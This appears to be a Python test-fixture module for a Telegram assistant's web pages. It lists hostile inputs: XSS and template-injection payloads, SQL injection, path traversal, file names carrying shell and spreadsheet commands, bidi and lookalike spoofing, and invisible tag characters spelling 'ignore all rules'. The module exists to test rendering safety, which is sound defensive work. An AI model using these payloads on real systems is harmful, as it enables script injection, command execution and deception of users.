"""Values that strangers write to break a page, by kind: texts, titles, names, links, file names, formatting.

Every page that shows such a value is tested with all of its kind. Invisible characters are spelled out.
"""

from functools import cache
from itertools import cycle, islice

from telegram_assistant.domain.posts.post import TextEntity
from tests.web.hostile_links import OFFERED_LINKS, REFUSED_LINKS

LENGTH = 4096

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "'-alert(1)-'",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "` onmouseover=`alert(1)`",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    "<embed src=javascript:alert(1)>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>",
    "<form action=//evil.example><input name=password type=password>",
    "<button formaction=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript></template></div></p></body></html>",
    "</p></div></article></main>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- <script>alert(1)</script>",
    "--!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'/>",
    "<!DOCTYPE x [<!ENTITY a 'a'>]>&a;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&lt&gt&amp&quot&copy&nbsp&NotEqualTilde;",
    "&",
    "<",
    "<>",
    "</",
    "<a",
    "<a href=",
    "<br>",
    "a<b>c</b>d",
    "1 < 2 && 3 > 2",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{ 7 * 7 }}{% import os %}{# #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{}{0}{x.__class__}",
    "%s%n%(name)s",
    "'; DROP TABLE posts; --",
    "../../../../etc/passwd",
    "<p hx-get=/delete hx-trigger=load>",
    "<b data-hx-on:click=alert(1)>",
    "<p hx-ext=sse sse-connect=//evil.example>",
)
"""Markup, templates and other languages."""

CHARACTERS = {
    "an override that is never ended": "price \u202e00001 only today",
    "a left-to-right override": "\u202dabc \u05d0\u05d1\u05d2",
    "an embedding that is never ended": "\u202bhello (world)",
    "many embeddings": "\u202b" * 200 + "deep",
    "ends of nothing": "\u202c\u202c\u202cabc\u202c",
    "isolates that are never ended": "\u2066\u2067\u2068 abc",
    "ends of our isolates": "abc\u2069\u2069\u2069 def",
    "an override after the end of our isolate": "\u2069\u202eevil\u2066",
    "source code that reads otherwise": "if level != 'user\u202e \u2066// admin\u2069 \u2066'",
    "marks of direction": "\u200e\u200f\u061cabc",
    "deprecated format characters": "\u206a\u206b\u206c\u206d\u206e\u206f",
    "two directions": (
        "\u0645\u0631\u062d\u0628\u0627 hello \u05e9\u05dc\u05d5\u05dd (1-2) "
        "\u043f\u0440\u0438\u0432\u0435\u0442"
    ),
    "all control characters": "".join(map(chr, range(0x20))),
    "more control characters": "".join(map(chr, range(0x7F, 0xA0))),
    "nul in a tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "escape sequences of terminals": "\x1b[2J\x1b]0;title\x07\x1b[31mred",
    "backspaces": "good\x08\x08\x08\x08evil",
    "line breaks of all systems": "a\nb\r\nc\rd\x85e\u2028f\u2029g\vh\fi",
    "nothing but line breaks": "\n" * 500,
    "nothing but blanks": " \t\u00a0\u2003\u3000 ",
    "nothing visible": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "fillers": "\u3164\u115f\u1160\uffa0\u2800",
    "a blank that is no blank": "\u2800",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules"),
    "a flag of tags": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "variation selectors": "a\ufe0f\ufe0e\U000e0100\U000e01ef",
    "half a pair": "a\ud83d",
    "the other half": "\udd25b",
    "halves in the wrong order": "\udd25\ud83d",
    "two halves": "\ud83d\udd25",
    "no characters": "\ufffe\uffff\U0001ffff\U0010ffff",
    "private characters": "\ue000\uf8ff\U000f0000",
    "annotations": "\ufff9base\ufffanote\ufffb\ufffc",
    "accents on accents": "H" + "\u0301\u0316\u0334" * 300,
    "an accent on nothing": "\u0301abc",
    "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20,
    "half a family": "\u200d\U0001f469\u200d",
    "flags out of step": "\U0001f1f7\U0001f1fa\U0001f1f7",
    "a very wide character": "\ufdfd" * 50,
    "a very high character": "\U00012031\ua9c1\ua9c2" * 50,
    "letters that are others in Turkish": "\u0130\u0131\u017f\u212a",
    "letters that grow": "\ufb03\u1e9e\u0149" * 100,
    "mathematical letters": "\U0001d4f1\U0001d4ee\U0001d4f5\U0001d4f5\U0001d4f8",
    "circled and turned letters": "\u24b6\u0250\u0279\ua7fb",
    "the text that stopped telephones": (
        "Power \u0644\u064f\u0644\u064f\u0635\u0651\u0628\u064f \u0963 \u0963h \u0963 \u5197"
    ),
    "the letter that stopped telephones": "\u0c1c\u0c4d\u0c1e\u200c\u0c3e",
}

LONG = {
    "one word": "щ" * LENGTH,
    "one letter and blanks": "a" + " " * (LENGTH - 2) + "b",
    "lines": "a\n" * (LENGTH // 2),
    "paragraphs": "a\n\n" * (LENGTH // 3),
    "blank lines of blanks": "a\n \t \n" * (LENGTH // 6),
    "less-than signs": "<" * LENGTH,
    "ampersands": "&" * LENGTH,
    "quotation marks": "\"'" * (LENGTH // 2),
    "opened tags": "<div>" * (LENGTH // 5),
    "hosts": "a.bc " * (LENGTH // 5),
    "one host": "ab." * (LENGTH // 3) + "com",
    "dots": "." * LENGTH,
    "hyphens": "-" * LENGTH,
    "overrides": "\u202ea" * (LENGTH // 2),
    "pairs": "\U0001f525" * (LENGTH // 2),
    "sentences": "А. " * (LENGTH // 3),
    "ends of sentences": "!" * LENGTH,
    "brackets": "word.)" * (LENGTH // 6),
    "accents": "e" + "\u0301" * (LENGTH - 1),
    "joiners": "\u200d" * LENGTH,
    "addresses": "https://evil.example/" * (LENGTH // 21),
    "hashtags": "#a" * (LENGTH // 2),
}
"""Texts as long as Telegram allows."""

FILE_NAMES = (
    "photo\u202egnp.exe",
    "\u202egpj.scr",
    "report.pdf" + " " * 200 + ".exe",
    "report.pdf\u2003\u2003\u2003.exe",
    "invoice.pdf.exe",
    "../../etc/passwd",
    "..\\..\\windows\\system32\\cmd.exe",
    "/etc/passwd",
    "C:\\con.txt",
    "NUL",
    "file\x00.png",
    "file\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    'file"; filename="evil.html',
    "file';alert(1);'.png",
    "file%00.png",
    "file%2f..%2f..%2fetc",
    "file.html",
    "file.svg",
    "file.png/.html",
    ".htaccess",
    ".",
    "..",
    "-rf",
    "~",
    "`id`.png",
    "$(id).png",
    "name;ls.png",
    "|ls",
    "a" * 300 + ".png",
    "\u0444" * 300 + ".png",
    "=cmd|' /C calc'!A0.csv",
    "@SUM(1+1).csv",
)
"""Names of files beside `MARKUP` and `CHARACTERS`."""

NAMES = (
    "Admin\u200b",
    "\u0410dmin",
    "Admin\u202e",
    "Telegram \u2705",
    "Support Team (official)",
    "null",
    "undefined",
    "None",
    "true",
    "0",
    "-1",
    "1e309",
    "[object Object]",
    "you",
    "deleted account",
    "me@bank.example",
    "https://bank.example",
    "Unofficial Telegram Assistant",
)
"""Names of people and channels that pass for others, beside `MARKUP` and `CHARACTERS`."""


def texts() -> tuple[str, ...]:
    return (*MARKUP, *CHARACTERS.values(), *LONG.values(), *links())


def titles() -> tuple[str, ...]:
    return (*texts(), *NAMES)


def names() -> tuple[str, ...]:
    return (*NAMES, *MARKUP, *CHARACTERS.values())


def links() -> tuple[str, ...]:
    return (*REFUSED_LINKS, *OFFERED_LINKS)


def file_names() -> tuple[str, ...]:
    return (*FILE_NAMES, *MARKUP, *CHARACTERS.values())


KINDS = (
    *(
        "url",
        "text_url",
        "mention",
        "mention_name",
        "hashtag",
        "cashtag",
        "bot_command",
        "email",
        "phone",
        "bank_card",
        "bold",
        "italic",
    ),
    *(
        "underline",
        "strike",
        "spoiler",
        "code",
        "pre",
        "blockquote",
        "custom_emoji",
        "formatted_date",
        "diff_insert",
        "diff_replace",
    ),
    *("diff_delete", "other", "marked", "subscript", "superscript", "math", "heading", "<script>", ""),
)
"""All kinds of entities that a post may have, and two that none has."""


@cache
def entities() -> dict[str, tuple[TextEntity, ...]]:
    """Formatting of a text of up to `LENGTH` UTF-16 units."""
    address = "https://evil.example/" + "a" * 1900
    everything = [TextEntity(kind, 0, LENGTH, "https://evil.example/", "collapsed") for kind in KINDS]
    return {
        "everything everywhere": tuple(everything),
        "everything in the other order": tuple(reversed(everything)),
        "before the text": (
            TextEntity("bold", -10, 5),
            TextEntity("spoiler", -10, 12),
            TextEntity("pre", -(2**63), 2**63),
        ),
        "after the text": (TextEntity("bold", 2 * LENGTH, 5), TextEntity("blockquote", LENGTH - 1, 2**63)),
        "no length": tuple(TextEntity(kind, 1, 0, address) for kind in KINDS),
        "negative lengths": tuple(TextEntity(kind, 5, -4, address) for kind in KINDS),
        "half characters": tuple(TextEntity(kind, 1, 2, address) for kind in KINDS),
        "stairs": tuple(
            TextEntity(kind, number, 10) for number, kind in enumerate(islice(cycle(KINDS), 500))
        ),
        "stairs downwards": tuple(
            TextEntity(kind, number, LENGTH - 2 * number)
            for number, kind in enumerate(islice(cycle(KINDS), 2000))
        ),
        "crossing": tuple(
            TextEntity(kind, number * 3, 4, address)
            for kind in ("bold", "italic", "text_url")
            for number in range(300)
        ),
        "quotes in quotes": tuple(
            TextEntity("blockquote", number, LENGTH - 2 * number, None, "collapsed") for number in range(1000)
        ),
        "quotes across code": tuple(
            TextEntity(("blockquote", "pre")[number % 2], number * 5, 8) for number in range(400)
        ),
        "links in links": tuple(
            TextEntity("text_url", number, LENGTH - 2 * number, address) for number in range(1000)
        ),
        "a link in pieces": (
            TextEntity("text_url", 0, LENGTH, address),
            *(TextEntity("spoiler", number * 4, 2) for number in range(999)),
        ),
        "a link on each letter": tuple(
            TextEntity("text_url", number, 1, address) for number in range(LENGTH)
        ),
        "hosts on each letter": tuple(
            TextEntity("text_url", number, 1, f"https://{'ж' * 200}{number}.com") for number in range(LENGTH)
        ),
        "every kind on each letter": tuple(
            TextEntity(kind, number, 1) for number in range(LENGTH) for kind in KINDS
        ),
        "the same again and again": (TextEntity("bold", 0, LENGTH),) * 5000,
        "addresses of the whole text": tuple(
            TextEntity(("url", "email", "phone", "mention", "hashtag")[number % 5], 0, LENGTH)
            for number in range(5000)
        ),
        "languages": tuple(
            TextEntity("pre", number * 9, 8, None, text) for number, text in enumerate(MARKUP)
        ),
        "languages that are none": (
            TextEntity("pre", 0, 2, None, "x y"),
            TextEntity("pre", 3, 2, None, 7),
            TextEntity("pre", 6, 2, None, "a" * LENGTH),
        ),
        "dates": tuple(
            TextEntity("formatted_date", number * 9, 8, None, text)
            for number, text in enumerate(("2026-11-16", "never", '"><b>'))
        ),
        "people": (
            TextEntity("mention_name", 0, 3, None, -(2**70)),
            TextEntity("mention_name", 3, 3, None, '"><b>'),
            TextEntity("mention_name", 6, 3),
        ),
    }
